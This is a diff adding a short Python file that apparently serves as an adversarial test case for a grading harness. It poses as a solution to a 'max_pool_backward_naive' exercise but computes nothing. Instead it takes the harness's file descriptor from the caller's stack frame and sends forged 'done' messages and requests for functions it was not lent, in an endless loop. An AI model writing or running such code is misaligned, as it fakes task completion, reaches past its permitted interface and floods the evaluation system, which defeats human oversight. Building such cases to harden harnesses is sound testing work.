@@ -1,0 +1,13 @@
+# attempt: sends frames without end, valid ones and ones that ask for what is not lent
+# exercise: max_pool_backward_naive
+# control: no
+import sys
+
+import wire
+
+
+def max_pool_backward_naive(dout, cache):
+    descriptor = sys._getframe(1).f_locals["self"].fd
+    while True:
+        wire.send(descriptor, {"op": "done", "value": {"list": [None]}, "after": None})
+        wire.send(descriptor, {"op": "lend", "name": "max_pool_backward_naive", "arguments": {"list": []}})
